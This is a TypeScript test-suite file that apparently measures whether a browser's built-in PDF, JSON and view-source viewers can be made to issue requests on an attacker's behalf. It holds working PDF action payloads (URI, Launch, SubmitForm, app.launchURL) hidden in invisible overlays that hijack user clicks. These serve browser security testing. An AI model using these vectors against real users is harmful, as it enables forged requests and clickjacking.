import type { ClickWith } from '../browsers/attack-browser';
import type { Stage } from '../suite/stage';
import { EVIL } from '../suite/target';
import type { Vector } from '../suite/vector';
import { type ActionPlace, clickUntilArrival, invisible, pdfPath } from '../suite/viewer';

/**
 * Viewers are pages of the browser itself, without a top-level domain: what they cause comes from an initiator
 * that is no site. The file is the attacker's, and lies invisible over his page.
 */
const ACTIONS = {
  uri: (url: string) => `<< /S /URI /URI (${url}) >>`,
  'uri-in-new-window': (url: string) => `<< /S /URI /URI (${url}) /NewWindow true >>`,
  'launch-url': (url: string) => `<< /S /JavaScript /JS (app.launchURL\\("${url}", true\\)) >>`,
  'get-url': (url: string) => `<< /S /JavaScript /JS (getURL\\("${url}"\\)) >>`,
  'submit-get': (url: string) => `<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 12 >>`,
  'submit-post': (url: string) => `<< /S /SubmitForm /F << /FS /URL /F (${url}) >> /Flags 4 >>`,
  'submit-by-script': (url: string) => `<< /S /JavaScript /JS (this.submitForm\\({ cURL: "${url}" }\\)) >>`,
  'remote-file': (url: string) => `<< /S /GoToR /F << /FS /URL /F (${url}) >> /D [0 /Fit] >>`,
  launch: (url: string) => `<< /S /Launch /F << /FS /URL /F (${url}) >> >>`,
  named: () => '<< /S /Named /N /Print >>',
} as const satisfies Readonly<Record<string, (url: string) => string>>;
type Action = keyof typeof ACTIONS;

/** The attacker's page with the file over it, and a click of the user's that means something else. */
const inFrame = (place: ActionPlace, action: Action, clickWith: ClickWith = 'left'): Vector => ({
  inEveryMode: true,
  run: async (stage, page) => {
    await page.insert(invisible(pdfPath(place, ACTIONS[action](stage.url))));
    await clickUntilArrival(stage, page, 'frame', clickWith);
  },
});

/** The user opened the attacker's file in a tab. */
const inTab = (place: ActionPlace, action: Action, clickWith: ClickWith = 'left'): Vector => ({
  inEveryMode: true,
  run: async (stage, page) => {
    await page.goto(EVIL + pdfPath(place, ACTIONS[action](stage.url)));
    await clickUntilArrival(stage, page, 'tab', clickWith);
  },
});

/** A page of the browser's own makes links of what the attacker's server sent. */
async function followLink({ path }: Stage, page: { evaluate(expression: string): Promise<unknown> }) {
  await page.evaluate(`(async () => {
    for (let tries = 0; tries < 100; tries += 1) {
      const found = [...document.querySelectorAll('a')].find(({ href }) => href.includes('${path}'));
      if (found) return void found.click();
      await new Promise((done) => setTimeout(done, 50));
    }
  })()`);
}

export default {
  link: inFrame('link', 'uri'),
  'link-in-tab': inTab('link', 'uri'),
  'link-with-control': inFrame('link', 'uri', 'control'),
  'link-with-shift': inFrame('link', 'uri', 'shift'),
  'link-with-middle': inFrame('link', 'uri', 'middle'),
  'link-in-new-window': inFrame('link', 'uri-in-new-window'),
  'link-in-tab-with-control': inTab('link', 'uri', 'control'),
  'link-to-remote-file': inFrame('link', 'remote-file'),
  'link-that-launches': inFrame('link', 'launch'),
  'link-by-name': inFrame('link', 'named'),
  'link-by-script': inFrame('link', 'launch-url'),
  'button-uri': inFrame('button', 'uri'),
  'button-launch-url': inFrame('button', 'launch-url'),
  'button-get-url': inFrame('button', 'get-url'),
  'button-submits-get': inFrame('button', 'submit-get'),
  'button-submits-post': { ...inFrame('button', 'submit-post'), arrives: ['POST'] },
  'button-submits-by-script': { ...inFrame('button', 'submit-by-script'), arrives: ['POST'] },
  'on-open-uri': inFrame('open', 'uri'),
  'on-open-launch-url': inFrame('open', 'launch-url'),
  'on-open-submit': { ...inFrame('open', 'submit-post'), arrives: ['POST'] },
  'on-open-in-tab': inTab('open', 'uri'),
  'on-page-uri': inFrame('page', 'uri'),
  'on-page-launch-url': inFrame('page', 'launch-url'),
  json: {
    typed: `${EVIL}/json?text={url}`,
    run: followLink,
    inEveryMode: true,
    notIn: { chromium: 'shows JSON as text, without links' },
  },
  'view-source': {
    typed: `view-source:${EVIL}/page?markup=<a href="{url}">go</a>`,
    run: followLink,
    inEveryMode: true,
  },
} satisfies Readonly<Record<string, Vector>>;
